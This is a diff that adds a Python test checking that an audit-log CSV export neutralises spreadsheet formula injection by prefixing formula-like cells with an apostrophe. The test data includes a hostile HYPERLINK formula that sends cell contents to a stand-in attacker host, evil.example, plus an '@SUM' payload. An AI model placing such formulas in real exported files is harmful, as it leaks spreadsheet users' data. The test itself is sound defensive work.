@@ -136,6 +136,18 @@ def test_export_is_excel_friendly_csv(env: Environment, tmp_path: Path) -> None:
     assert list(out.parent.glob(".audit-*")) == []
 
 
+def test_export_never_hands_excel_a_formula(env: Environment, tmp_path: Path) -> None:
+    hostile = chain.Recorder(actor='=HYPERLINK("http://evil.example/?"&A1,"click")', terminal="@SUM(1)")
+    with env.store.write() as session:
+        chain.append(session, hostile, "test.event", {"i": 1})
+    out = tmp_path / "audit.csv"
+    export_csv(env.store, out)
+    row = list(csv.reader(out.read_text(encoding="utf-8-sig").splitlines()))[-1]
+    assert row[2] == "'" + hostile.actor
+    assert row[3] == "'@SUM(1)"
+    assert row[5].startswith("{")  # ordinary cells are written as they are
+
+
 def test_cli_export(env: Environment, data_dir: Path, db_url: str, tmp_path: Path) -> None:
     out = tmp_path / "a.csv"
     assert app.main(["--data-dir", str(data_dir), "--database-url", db_url, "audit", "export", "--out", str(out)]) == 0
